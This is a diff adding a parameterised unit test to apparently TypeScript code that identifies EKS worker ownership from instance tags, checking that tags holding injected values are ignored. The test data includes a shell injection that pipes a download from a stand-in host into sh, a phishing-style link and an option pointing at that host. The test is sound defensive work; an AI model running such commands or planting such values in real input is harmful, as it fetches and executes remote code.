@@ -27,6 +27,20 @@ it.each([
   expect(workerOf(instance(tags))).toEqual(worker);
 });
 
+it.each([
+  ['a command', 'x; curl evil.example | sh'],
+  ['a link', '[approve](https://evil.example)'],
+  ['lines', 'x\n-> y'],
+  ['an option', '--server=https://evil.example'],
+  ['more than the ledger has room for', '\u{1f600}'.repeat(256)],
+])('a tag that holds %s names no group', (_what, name) => {
+  const ours = { 'aws:eks:cluster-name': 'shop' };
+  const pool = workerOf(instance({ ...ours, 'karpenter.sh/nodepool': name }));
+  expect(pool).toEqual({ cluster: 'shop', ownership: 'karpenter', certain: true });
+  const group = workerOf(instance({ ...ours, 'eks:nodegroup-name': name }));
+  expect(group).toEqual({ cluster: 'shop', ownership: 'self-managed', certain: true });
+});
+
 it('a worker of EKS Auto Mode is known by its operator', () => {
   const operated = { Operator: { Managed: true, Principal: 'eks.amazonaws.com' } };
   expect(workerOf(instance({ 'aws:eks:cluster-name': 'shop' }, operated))).toMatchObject({ ownership: 'auto-mode' });
